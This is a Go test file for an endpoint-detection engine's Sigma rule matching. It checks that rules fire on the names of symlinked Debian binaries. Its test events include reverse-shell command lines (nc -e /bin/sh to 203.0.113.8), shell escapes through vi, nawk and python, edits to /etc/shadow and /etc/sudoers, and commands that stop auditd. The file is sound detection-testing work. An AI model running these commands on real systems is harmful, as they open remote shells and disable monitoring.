package sigma_test

import (
	"testing"

	"github.com/yagura-edr/yagura/internal/event"
	"github.com/yagura-edr/yagura/internal/sigma"
)

// The name that was asked for adds matches where a rule asks for a field, and never below a "not", where whoever starts
// a program could let himself pass by a link.
func TestANameThatWasAskedForAddsMatchesAlone(t *testing.T) {
	link := &event.Event{ // a link /tmp/x/dpkg to a shell
		Kind: event.ProcessExec, OS: event.Linux,
		Actor:  event.Process{Path: "/usr/bin/dash", Invoked: "/tmp/x/dpkg", CommandLine: "dpkg -c id"},
		Parent: event.Process{Path: "/usr/bin/mawk", Invoked: "/usr/bin/awk"},
	}
	plain := &event.Event{Kind: event.ProcessExec, OS: event.Linux, Actor: event.Process{Path: "/usr/bin/dash", CommandLine: "sh"}}
	tests := []struct {
		det         string
		link, plain bool
	}{
		{"  s: {Image|endswith: /dpkg}\n  condition: s\n", true, false},
		{"  s: {Image|endswith: /dash}\n  condition: s\n", true, true},
		{"  s: {Image|endswith: /dash}\n  f: {Image|endswith: /dpkg}\n  condition: s and not f\n", true, true},
		{"  s: {Image|endswith: /dash}\n  filter_a: {Image|endswith: /dpkg}\n  filter_b: {Image: x}\n  condition: s and not 1 of filter_*\n", true, true},
		{"  s: {Image|endswith: /dash}\n  f: {Image|endswith: /dpkg}\n  condition: not (not s or f)\n", true, true},
		{"  s: {Image|endswith: /dash}\n  f: {Image|endswith: /dash}\n  condition: s and not f\n", false, false},
		{"  f: {Image|endswith: /dpkg}\n  condition: not f\n", true, true},
		{"  f: {Image|endswith: /dpkg}\n  condition: not not f\n", true, false},
		{"  f: {Image|endswith: /dpkg}\n  condition: f and not f\n", true, false}, // two readings of one identifier
		{"  s: {Image|neq: /usr/bin/dash}\n  condition: s\n", false, false},
		{"  s: {Image|neq: /tmp/x/dpkg}\n  condition: s\n", true, true},
		{"  s: {Image|neq: /tmp/x/dpkg}\n  condition: not s\n", true, false},
		{"  s: {Image|contains|all: [/tmp/, dpkg]}\n  condition: s\n", true, false},
		{"  s: {Image|contains|all: [dash, dpkg]}\n  condition: s\n", false, false}, // no one name has both
		{"  s: {Image: null}\n  condition: s\n", false, false},
		{"  s: {Image|exists: false}\n  condition: s\n", false, false},
		{"  s: {Image|re: '^/tmp/.*/[a-z]+$'}\n  condition: s\n", true, false},
		{"  s: {ParentImage|endswith: [/awk, /gawk]}\n  condition: s\n", true, false},
		{"  s: {ParentImage|endswith: /mawk}\n  condition: s\n", true, false},
		{"  s: {Image|endswith: [/a, /b, /c, /d, /e, /dpkg]}\n  condition: s\n", true, false},
		{"  s: {Image: [/a, /b, /c, /d, /e, /tmp/x/dpkg]}\n  condition: s\n", true, false},
		{"  s: [{Image|endswith: /dpkg, CommandLine|contains: ' -c '}, {Image: x}]\n  condition: all of them\n", true, false},
		{"  s: {ImagePath|endswith: /dpkg}\n  condition: s\n", false, false},
		{"  s: {actor_path|endswith: /dpkg}\n  condition: s\n", false, false},
		{"  s: {actor_invoked|endswith: /dpkg}\n  condition: s\n", true, false},
	}
	for _, tt := range tests {
		if got := judged(t, tt.det, link); got != tt.link {
			t.Errorf("%q on the link: %v; want %v", tt.det, got, tt.link)
		}
		if got := judged(t, tt.det, plain); got != tt.plain {
			t.Errorf("%q without a link: %v; want %v", tt.det, got, tt.plain)
		}
		// A sample that gives both names as a list is the same event.
		sample := sigma.NewFields(processCreation, map[string]sigma.Value{
			"Image":       {Kind: sigma.List, List: []string{"/usr/bin/dash", "/tmp/x/dpkg"}},
			"ParentImage": {Kind: sigma.List, List: []string{"/usr/bin/mawk", "/usr/bin/awk"}}, "CommandLine": sigma.TextValue("dpkg -c id"),
			"actor_path": sigma.TextValue("/usr/bin/dash"),
		})
		if got := fires(one(t, tt.det), sample); got != tt.link {
			t.Errorf("%q on the sample: %v; want %v", tt.det, got, tt.link)
		}
	}
}

// A filter document is no way round it either.
func TestALinkDoesNotMeetAFilterDocument(t *testing.T) {
	set := build(t, head+"  s: {Image|endswith: /dash}\n  condition: s\n",
		"title: f\nlogsource: {product: linux}\nfilter:\n  rules: [00000000-0000-4000-8000-000000000001]\n  selection: {Image|endswith: /dpkg}\n  condition: not selection\n")
	var rec sigma.EventRecord
	rec.Set(&event.Event{Kind: event.ProcessExec, OS: event.Linux, Actor: event.Process{Path: "/usr/bin/dash", Invoked: "/tmp/x/dpkg"}})
	if set.Scratch().Judge(&rec, nil) == nil {
		t.Error("a link named dpkg meets the filter")
	}
}

// A detection shows the name that satisfied it.
func TestAMatchShowsTheNameThatWasAskedFor(t *testing.T) {
	set := one(t, "  s: {Image|endswith: /nc}\n  condition: s\n")
	var rec sigma.EventRecord
	rec.Set(&event.Event{Kind: event.ProcessExec, OS: event.Linux, Actor: event.Process{Path: "/usr/bin/nc.openbsd", Invoked: "/usr/bin/nc"}})
	hits := set.Scratch().Judge(&rec, nil)
	if len(hits) != 1 || hits[0].Matched[0].Field != "Image" || hits[0].Matched[0].Value != "/usr/bin/nc" {
		t.Errorf("hits %+v; want Image /usr/bin/nc", hits)
	}
}

// SigmaHQ writes the names that people type. On Debian those are links and scripts; each of these rules loads, is not
// blind, and fired on none of these commands when Image was the file alone.
func TestSigmaHQRulesFireOnDebiansNames(t *testing.T) {
	set := loadSigmaHQ(t, dataDir(t))
	type process = event.Process
	tests := []struct {
		rule   string
		actor  process
		parent process
	}{
		{"64c41342-6b27-523b-5d3f-c265f3efcdb3", process{Path: "/usr/bin/pgrep", Invoked: "/usr/bin/pkill", CommandLine: "pkill auditd"}, process{}},
		{"9b5de532-a757-4d70-946c-1f3e44f48b4d", process{Path: "/usr/bin/x86_64-linux-gnu-gcc-12", Invoked: "/usr/bin/gcc", CommandLine: "gcc -wrapper /bin/sh,-s ."}, process{}},
		{"9b5de532-a757-4d70-946c-1f3e44f48b4d", process{Path: "/usr/bin/dash", Invoked: "/usr/bin/c99", CommandLine: "/bin/sh /usr/bin/c99 -wrapper /bin/sh,-s ."}, process{}},
		{"3be619f4-d9ec-4ea8-a173-18fdd01996ab", process{Path: "/usr/sbin/xtables-nft-multi", Invoked: "/usr/sbin/iptables", CommandLine: "iptables -F ufw-logging-deny"}, process{}},
		{"3be619f4-d9ec-4ea8-a173-18fdd01996ab", process{Path: "/usr/sbin/xtables-nft-multi", Invoked: "/usr/sbin/ip6tables", CommandLine: "ip6tables -X ufw6-logging-allow"}, process{}},
		{"b45e3d6f-42c6-47d8-a478-df6bd6cf534c", process{Path: "/usr/bin/vim.basic", Invoked: "/usr/bin/vi", CommandLine: "vi /etc/shadow"}, process{}},
		{"b45e3d6f-42c6-47d8-a478-df6bd6cf534c", process{Path: "/usr/bin/vim.tiny", Invoked: "/usr/bin/vi", CommandLine: "vi /etc/sudoers"}, process{}},
		{"676381a6-15ca-4d73-a9c8-6a22e970b90d", process{Path: "/usr/bin/vim.basic", Invoked: "/usr/bin/vim", CommandLine: "vim /etc/group"}, process{}},
		{"7f734ed0-4f47-46c0-837f-6ee62505abd9", process{Path: "/usr/bin/nc.openbsd", Invoked: "/usr/bin/nc", CommandLine: "nc -e /bin/sh 203.0.113.8 443"}, process{}},
		{"7f734ed0-4f47-46c0-837f-6ee62505abd9", process{Path: "/usr/bin/nc.traditional", Invoked: "/bin/nc", CommandLine: "nc -c bash 203.0.113.8 443"}, process{}},
		{"c9d8b7fd-78e4-44fe-88f6-599135d46d60", process{Path: "/usr/bin/dash", Invoked: "/usr/bin/egrep", CommandLine: "/bin/sh /usr/bin/egrep osqueryd"}, process{}},
		{"0f79c4d2-4e1f-4683-9c36-b5469a665e06", process{Path: "/usr/bin/dash", Invoked: "/usr/bin/fgrep", CommandLine: "/bin/sh /usr/bin/fgrep root /etc/sudoers"}, process{}},
		{"e3a8a052-111f-4606-9aee-f28ebeb76776", process{Path: "/usr/bin/dash", Invoked: "/usr/sbin/service", CommandLine: "/bin/sh /usr/sbin/service cbdaemon stop"}, process{}},
		{"de25eeb8-3655-4643-ac3a-b662d3f26b6b", process{Path: "/usr/bin/dash", Invoked: "/usr/sbin/service", CommandLine: "/bin/sh /usr/sbin/service auditd stop now"}, process{}},
		{"746c86fb-ccda-4816-8997-01386263acc4", process{Path: "/usr/bin/busybox", Invoked: "/usr/local/bin/awk", CommandLine: "awk 1 /proc/1/cgroup"}, process{}},
		{"ea3ecad2-db86-4a89-ad0b-132a10d2db55", process{Path: "/usr/bin/nc.openbsd", Invoked: "/bin/netcat", CommandLine: "netcat -l 4444"}, process{CommandLine: "bash -i"}},
		{"ea3ecad2-db86-4a89-ad0b-132a10d2db55", process{Path: "/usr/sbin/xtables-legacy-multi", Invoked: "/sbin/iptables", CommandLine: "iptables -L"}, process{CommandLine: "bash -i"}},
		{"3e102cd9-a70d-4a7a-9508-403963092f31", process{Path: "/usr/bin/nc.openbsd", Invoked: "/usr/bin/nc", CommandLine: "nc 203.0.113.8 443"}, process{}},
		{"3e102cd9-a70d-4a7a-9508-403963092f31", process{Path: "/usr/bin/telnet.netkit", Invoked: "/usr/bin/telnet", CommandLine: "telnet 203.0.113.8"}, process{}},
		{"86157017-c2b1-4d4a-8c33-93b8e67e4af4", process{Path: "/usr/bin/vim.basic", Invoked: "/usr/bin/vi", CommandLine: "vi /etc/crontab"}, process{}},
		{"42df45e7-e6e9-43b5-8f26-bec5b39cc239", process{Path: "/usr/bin/kmod", Invoked: "/usr/sbin/lsmod", CommandLine: "lsmod"}, process{}},
		{"e7bd1cfa-b446-4c88-8afb-403bcd79e3fa", process{Path: "/usr/sbin/xtables-nft-multi", Invoked: "/usr/sbin/iptables", CommandLine: "iptables -L"}, process{}},
		{"7ab8f73a-fcff-428b-84aa-6a5ff7877dea", process{Path: "/usr/bin/vim.basic", Invoked: "/usr/bin/vi", CommandLine: "vi -c :!/bin/sh"}, process{}},
		{"7ab8f73a-fcff-428b-84aa-6a5ff7877dea", process{Path: "/usr/bin/vim.basic", Invoked: "/usr/bin/rvim", CommandLine: "rvim -c ':py import os'"}, process{}},
		{"818f7b24-0fba-4c49-a073-8b755573b9c7", process{Path: "/usr/sbin/xtables-nft-multi", Invoked: "/usr/sbin/iptables", CommandLine: "iptables -L"}, process{Path: "/usr/sbin/nginx"}},
		{"818f7b24-0fba-4c49-a073-8b755573b9c7", process{Path: "/usr/bin/whoami", CommandLine: "whoami"}, process{Path: "/usr/bin/nodejs-18", Invoked: "/usr/bin/node"}},
		{"69dea60b-2deb-4c9e-a685-ad542f4367f9", process{Path: "/usr/bin/ruby3.1", Invoked: "/usr/bin/ruby", CommandLine: "ruby x", Cwd: "/usr/sap/DAA/j2ee/cluster/apps/sap.com/irj/servlet_jsp/irj/root"}, process{}},
		{"474b415a-d917-4f3b-8c62-9e1a0d5f7b48", process{Path: "/usr/bin/kmod", Invoked: "/sbin/modprobe", CommandLine: "/sbin/mp crypto-authencesn(hmac)"}, process{}},
		{"8c1a5675-cb85-452f-a298-b01b22a51856", process{Path: "/usr/bin/original-awk", Invoked: "/usr/bin/nawk", CommandLine: `nawk 'BEGIN {system("/bin/sh")}'`}, process{}},
		{"2fade0b6-7423-4835-9d4f-335b39b83867", process{Path: "/usr/bin/busybox", Invoked: "/bin/sh", CommandLine: "sh"}, process{Path: "/tmp/x"}},
		{"2d2f44ff-4611-4778-a8fc-323a0e9850cc", process{Path: "/opt/conda/bin/python-wrapped", Invoked: "/usr/bin/python3", CommandLine: `python3 -c import os; os.system("/bin/sh")`}, process{}},
	}
	rules := map[string]bool{}
	s := set.Scratch()
	hit := func(rule string, e *event.Event) bool {
		var rec sigma.EventRecord
		rec.Set(e)
		for _, h := range s.Judge(&rec, nil) {
			if h.Rule.ID == rule {
				return true
			}
		}
		return false
	}
	for _, tt := range tests {
		rules[tt.rule] = true
		if set.Rule(tt.rule) == nil {
			t.Errorf("no rule %s", tt.rule)
			continue
		}
		e := &event.Event{Kind: event.ProcessExec, OS: event.Linux, Actor: tt.actor, Parent: tt.parent}
		if !hit(tt.rule, e) {
			t.Errorf("%s (%s) does not fire on %s as %s", tt.rule, set.Rule(tt.rule).Title.En, tt.actor.Path, tt.actor.Invoked)
		}
		e.Actor.Invoked, e.Parent.Invoked = "", ""
		if hit(tt.rule, e) {
			t.Errorf("%s (%s) fires on %s alone: the case shows nothing", tt.rule, set.Rule(tt.rule).Title.En, tt.actor.Path)
		}
	}
	t.Logf("%d cases of %d rules", len(tests), len(rules))
}
